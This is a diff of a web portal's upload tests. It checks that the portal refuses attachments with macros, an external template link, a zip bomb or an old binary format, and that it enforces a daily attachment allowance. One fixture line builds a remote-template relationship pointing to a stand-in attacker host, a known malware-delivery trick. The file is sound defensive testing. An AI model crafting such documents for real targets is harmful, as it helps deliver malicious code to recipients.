@@ -1,6 +1,6 @@
 import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from "vitest";
 import type { ComposeActionData } from "~/routes/clients.documents-and-messages/compose";
-import { SAMPLES, wordDocument } from "../sample-files";
+import { craftedWordDocument, SAMPLES, wordDocument, zipBomb } from "../sample-files";
 import { openClientInContext, type Portal, setFeatureToggle, startPortal, thrown } from "./portal-harness";
 
 // spec 002 §4 "Sending", §5 "Compose", §6 one-way messaging, §8 messages: the compose action with a
@@ -31,6 +31,13 @@ class FakeDocnotes {
   outbox: Array<{ template_id: number; subject: string; document_id: number }> = [];
   calls: string[] = [];
   failing = new Set<Failing>();
+  /** What GET attachment-allowance answers (docs/decisions/165); null: the platform cannot say. */
+  allowance: { files_per_day: number; bytes_per_day: number; files_left: number; bytes_left: number } | null = {
+    files_per_day: 50,
+    bytes_per_day: 100_000_000,
+    files_left: 50,
+    bytes_left: 100_000_000,
+  };
   private nextId = 100;
 
   /** A message the client can see (as if sent by their adviser). */
@@ -67,6 +74,8 @@ class FakeDocnotes {
     this.calls.push(`${method} ${path}${url.search}`);
     if (!headers.get("Cookie")?.startsWith("XPLANID=") || !headers.get("X-Xplan-App-Id"))
       return error(401, "This feature is not available without a valid session");
+    if (method === "GET" && path === "/resourceful/docnote-v2/attachment-allowance")
+      return this.allowance ? json(200, this.allowance) : error(500, "Internal server error");
     if (method === "POST" && path === "/resourceful/docnote-v2") {
       if (this.failing.has("create")) return error(500, "Internal server error");
       const body = JSON.parse(String(init?.body)) as {
@@ -210,8 +219,9 @@ describe("sending a message (spec 002 §4)", () => {
       { filename: "figures.csv", size: 7, contentType: "text/csv; charset=utf-8" },
     ]);
     expect(docnotes.outbox).toEqual([{ template_id: 1, subject, document_id: stored.id }]);
-    // spec 002 §4: in order, the attachments one by one
+    // spec 002 §4: in order, the attachments one by one (after the allowance of the day, issue 39)
     expect(docnotes.calls).toEqual([
+      "GET /resourceful/docnote-v2/attachment-allowance",
       "POST /resourceful/docnote-v2",
       `POST /resourceful/docnote-v2/${stored.id}/firstread`,
       `POST /resourceful/docnote-v2/${stored.id}/attachment-v3`,
@@ -397,11 +407,40 @@ describe("the files a client may send (issue 24)", () => {
     expect(response.status).toBe(400);
     expect(docnotes.calls).toEqual([]);
     const data = (await response.json()) as ComposeActionData;
-    expect(data.result.error).toMatchObject({ attachments: ["compose:errors.fileContentMismatch"] });
+    expect(data.result.error).toMatchObject({
+      attachments: ["compose:errors.fileContentMismatch", "compose:errors.fileActiveContent"],
+    });
     expect(data.postedFiles).toEqual([
       { name: "invoice.pdf", problem: "compose:errors.fileContentMismatch" },
-      { name: "letter.docx", problem: "compose:errors.fileContentMismatch" },
+      // a macro-enabled document renamed .docx: refused for its macros (issue 39)
+      { name: "letter.docx", problem: "compose:errors.fileActiveContent" },
       { name: "fine.pdf", problem: null },
+    ]);
+  });
+
+  it("refuses macros, links to content elsewhere, a zip bomb and the old binary formats (issue 39)", async () => {
+    const attachedTemplate = craftedWordDocument({
+      relationships: `<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://attacker.example/t.dotm" TargetMode="External"/>`,
+    });
+    const response = await send(client, {
+      subject: "Office files",
+      body: "Kept",
+      attachments: [
+        named(craftedWordDocument({ parts: { "word/vbaProject.bin": new Uint8Array(16) } }), "letter.docx"),
+        named(attachedTemplate, "form.docx"),
+        named(zipBomb(2048), "figures.xlsx"),
+        named(SAMPLES.compound(), "old letter.doc"),
+      ],
+    });
+    expect(response.status).toBe(400);
+    expect(docnotes.calls).toEqual([]);
+    const data = (await response.json()) as ComposeActionData;
+    expect(data.result.initialValue).toMatchObject({ subject: "Office files", body: "Kept" });
+    expect(data.postedFiles).toEqual([
+      { name: "letter.docx", problem: "compose:errors.fileActiveContent" },
+      { name: "form.docx", problem: "compose:errors.fileExternalContent" },
+      { name: "figures.xlsx", problem: "compose:errors.fileUnpackedTooLarge" },
+      { name: "old letter.doc", problem: "compose:errors.fileTypeNotAllowed" },
     ]);
   });
 
@@ -427,6 +466,53 @@ describe("the files a client may send (issue 24)", () => {
       { filename: "notes.txt", contentType: "text/plain; charset=utf-8" },
       { filename: "report.pdf", contentType: "application/pdf" },
     ]);
+  });
+});
+
+describe("the attachments of a day (ASVS V12.1.3, issue 39)", () => {
+  const dailyLimit = (files: number, megabytes: number, filesLeft: number, megabytesLeft: number) =>
+    `$t(compose:errors.dailyLimit, ${JSON.stringify({
+      files: String(files),
+      megabytes: String(megabytes),
+      filesLeft: String(filesLeft),
+      megabytesLeft: String(megabytesLeft),
+    })})`;
+
+  it("refuses files past what is left of the allowance before creating the message, keeping what was typed", async () => {
+    docnotes.allowance = { files_per_day: 50, bytes_per_day: 100_000_000, files_left: 1, bytes_left: 60_000_000 };
+    const response = await send(client, {
+      subject: "Many files",
+      body: "Kept",
+      attachments: [pdf("one.pdf"), pdf("two.pdf")],
+    });
+    expect(response.status).toBe(400);
+    // asked, and nothing created
+    expect(docnotes.calls).toEqual(["GET /resourceful/docnote-v2/attachment-allowance"]);
+    const data = (await response.json()) as ComposeActionData;
+    expect(data.result.error).toMatchObject({ attachments: [dailyLimit(50, 100, 1, 60)] });
+    expect(data.result.initialValue).toMatchObject({ subject: "Many files", body: "Kept" });
+    expect(data.postedFiles.map((f) => f.name)).toEqual(["one.pdf", "two.pdf"]);
+  });
+
+  it("counts the bytes too, and lets through what fits", async () => {
+    docnotes.allowance = { files_per_day: 50, bytes_per_day: 100_000_000, files_left: 10, bytes_left: 30 };
+    const over = await send(client, { subject: "Big", attachments: [pdf("one.pdf"), pdf("two.pdf")] });
+    expect(over.status).toBe(400);
+    expect(((await over.json()) as ComposeActionData).result.error).toMatchObject({
+      attachments: [dailyLimit(50, 100, 10, 0)],
+    });
+    docnotes.allowance = { files_per_day: 50, bytes_per_day: 100_000_000, files_left: 2, bytes_left: 36 };
+    const fits = await send(client, { subject: "Fits", attachments: [pdf("one.pdf"), pdf("two.pdf")] });
+    expect(fits.status).toBe(302);
+    expect(docnotes.sent("Fits").attachments).toHaveLength(2);
+  });
+
+  it("does not ask for a message without files, and sends when the platform cannot say (it refuses each upload itself)", async () => {
+    docnotes.allowance = { files_per_day: 50, bytes_per_day: 100_000_000, files_left: 0, bytes_left: 0 };
+    expect((await send(client, { subject: "Words only", body: "No files" })).status).toBe(302);
+    expect(docnotes.calls.some((c) => c.includes("attachment-allowance"))).toBe(false);
+    docnotes.allowance = null;
+    expect((await send(client, { subject: "Unknown allowance", attachments: pdf("one.pdf") })).status).toBe(302);
   });
 });
 
